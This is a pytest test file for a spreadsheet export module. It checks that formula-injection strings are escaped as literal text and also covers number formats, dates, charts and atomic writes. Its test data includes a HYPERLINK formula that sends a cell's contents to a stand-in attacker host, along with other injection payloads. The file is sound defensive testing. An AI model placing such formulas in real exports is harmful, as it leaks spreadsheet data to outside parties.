"""Workbooks: formula injection, numbers, dates, native charts; read back by openpyxl and LibreOffice."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import pytest

from guotu.errors import InvalidInputError, StorageError
from guotu.reports.xlsx import ChartSpec, SafeText, Sheet, csv_cell, safe_cell, workbook_bytes, write_workbook
from guotu.services.office import convert_file

# RELIABILITY.md §5.6: export names built as a HYPERLINK formula, "+1+1", "-2*3", "@SUM(A1)", tab-"=1", CR-"=1".
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-2*3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76,1"


def _csv(path: Path, out: Path) -> list[list[str]]:
    result = convert_file(path, out, target=CSV_FILTER, timeout_s=120)
    return list(csv.reader(io.StringIO(result.read_text(encoding="utf-8"), newline="")))


@pytest.mark.parametrize("text", INJECTIONS)
def test_safe_cell_marks_every_dangerous_text(text: str) -> None:
    value = safe_cell(text)
    assert isinstance(value, SafeText) and value == text


@pytest.mark.parametrize("value", ["耕地", "A-1", "1+1", " =x", -3, Decimal("-2.5"), 0.5, None, True])
def test_safe_cell_leaves_the_rest(value: object) -> None:
    assert not isinstance(safe_cell(value), SafeText)
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_cells_are_prefixed(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell(-2) == "-2" and csv_cell(Decimal("-0.50")) == "-0.50"


def test_safe_cell_normalises() -> None:
    aware = datetime(2026, 1, 2, 8, 0, tzinfo=timezone(timedelta(hours=8)))
    assert safe_cell(aware) == datetime(2026, 1, 2, 0, 0)
    assert safe_cell(float("nan")) == "nan"
    assert safe_cell(Decimal("NaN")) == "NaN"
    assert safe_cell("a\x00b\x07c") == "abc"
    assert safe_cell(Path("x")) == "x"


def test_injections_round_trip_as_text_through_openpyxl(tmp_path: Path) -> None:
    rows = [[text, index] for index, text in enumerate(INJECTIONS)]
    path = write_workbook(tmp_path / "out.xlsx", [Sheet("导出", ["名称", "序号"], rows)])
    ws = openpyxl.load_workbook(path)["导出"]
    for r, text in enumerate(INJECTIONS, start=2):
        cell = ws.cell(row=r, column=1)
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml  # no formula anywhere


def test_numbers_decimals_and_dates(tmp_path: Path) -> None:
    rows = [
        ["耕地", Decimal("1234.50"), Decimal("-3"), -7, date(2026, 3, 31), datetime(2026, 3, 31, 9, 30, tzinfo=UTC)],
        ["林地", Decimal("0.0001"), None, 2.5, None, None],
    ]
    sheet = Sheet(
        "统计",
        ["地类", "面积（公顷）", "变化", "数量", "日期", "时间"],
        rows,
        number_formats={3: "#,##0.00"},
        title="2026年一季度统计表",
        widths=[12, 14],
    )
    path = write_workbook(tmp_path / "stats.xlsx", [sheet])
    ws = openpyxl.load_workbook(path)["统计"]
    assert ws["A1"].value == "2026年一季度统计表"
    assert "A1:F1" in {str(r) for r in ws.merged_cells.ranges}
    assert [c.value for c in ws[2]] == sheet.header
    b3, c3, d3, e3, f3 = ws["B3"], ws["C3"], ws["D3"], ws["E3"], ws["F3"]
    assert b3.data_type == "n" and b3.value == pytest.approx(1234.5) and b3.number_format == "0.00"
    assert c3.value == -3 and c3.number_format == "0"
    assert d3.value == -7 and d3.number_format == "#,##0.00"
    assert ws["B4"].number_format == "0.0000"
    assert e3.is_date and e3.value == datetime(2026, 3, 31) and e3.number_format == "yyyy-mm-dd"
    assert f3.is_date and f3.value == datetime(2026, 3, 31, 9, 30)
    assert ws["C4"].value is None
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["A"].width == 12


def test_native_charts_are_in_the_workbook(tmp_path: Path) -> None:
    sheet = Sheet("完成", ["区县", "计划", "完成"], [["小店区", 10, 8], ["迎泽区", 12, Decimal("12.5")]])
    charts = [
        ChartSpec("完成", "bar", "各区完成情况", 0, [1, 2], y_title="公顷"),
        ChartSpec("完成", "line", "趋势", 0, [2], anchor="H20"),
    ]
    path = write_workbook(tmp_path / "c.xlsx", [sheet], charts=charts)
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        chart_xml = archive.read("xl/charts/chart1.xml").decode("utf-8")
    assert "xl/charts/chart1.xml" in names and "xl/charts/chart2.xml" in names
    assert "<barChart>" in chart_xml and "各区完成情况" in chart_xml
    assert "<val><numRef><f>'完成'!$B$2:$B$3</f>" in chart_xml
    assert "<cat><strRef><f>'完成'!$A$2:$A$3</f>" in chart_xml
    ws = openpyxl.load_workbook(path)["完成"]
    assert len(ws._charts) == 2


@pytest.mark.parametrize(
    ("sheets", "charts", "code"),
    [
        ([Sheet("a/b", ["x"], [])], [], "report.sheet_name_invalid"),
        ([Sheet("", ["x"], [])], [], "report.sheet_name_invalid"),
        ([Sheet("x" * 32, ["x"], [])], [], "report.sheet_name_invalid"),
        ([Sheet("表", ["x"], []), Sheet("表", ["y"], [])], [], "report.sheet_name_invalid"),
        ([Sheet("表", ["x"], [[1, 2]])], [], "report.sheet_row_invalid"),
        ([Sheet("表", ["x"], [[1]])], [ChartSpec("无", "bar", "t", 0, [0])], "report.chart_sheet_missing"),
        ([Sheet("表", ["x"], [[1]])], [ChartSpec("表", "bar", "t", 0, [3])], "report.chart_column_invalid"),
    ],
)
def test_bad_workbooks_are_refused_and_nothing_is_written(
    tmp_path: Path, sheets: list[Sheet], charts: list[ChartSpec], code: str
) -> None:
    target = tmp_path / "bad.xlsx"
    with pytest.raises(InvalidInputError) as info:
        write_workbook(target, sheets, charts=charts)
    assert info.value.code == code
    assert list(tmp_path.iterdir()) == []


def test_write_is_atomic_and_reports_storage_errors(tmp_path: Path) -> None:
    target = tmp_path / "x.xlsx"
    write_workbook(target, [Sheet("a", ["x"], [[1]])])
    before = target.read_bytes()
    with pytest.raises(InvalidInputError):
        write_workbook(target, [Sheet("a", ["x"], [[1, 2]])])
    assert target.read_bytes() == before  # the old file is intact
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")
    with pytest.raises(StorageError) as info:
        write_workbook(blocker / "x.xlsx", [Sheet("a", ["x"], [[1]])])
    assert info.value.code == "report.write_failed"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file", "x.xlsx"]
    assert workbook_bytes([Sheet("a", ["x"], [[1]])])[:2] == b"PK"


@pytest.mark.libreoffice
@pytest.mark.slow
def test_libreoffice_reads_the_injections_as_literal_text(tmp_path: Path) -> None:
    rows = [[text, Decimal("-1.50")] for text in INJECTIONS]
    path = write_workbook(tmp_path / "inj.xlsx", [Sheet("导出", ["名称", "面积"], rows)])
    table = _csv(path, tmp_path / "csv")
    assert table[0] == ["名称", "面积"]
    for row, text in zip(table[1:], INJECTIONS, strict=True):
        # LibreOffice's CSV writer turns a CR inside a cell into LF; everything else is byte for byte.
        assert row[0] == text.replace("\r", "\n")
        assert row[1] == "-1.50"  # still a number, shown with its format


@pytest.mark.libreoffice
@pytest.mark.slow
def test_the_check_can_fail_a_plain_openpyxl_formula_is_evaluated(tmp_path: Path) -> None:
    # The control: without the kit, openpyxl stores "=1+1" as a formula and LibreOffice computes it.
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    path = tmp_path / "plain.xlsx"
    wb.save(path)
    assert _csv(path, tmp_path / "csv") == [["2"]]
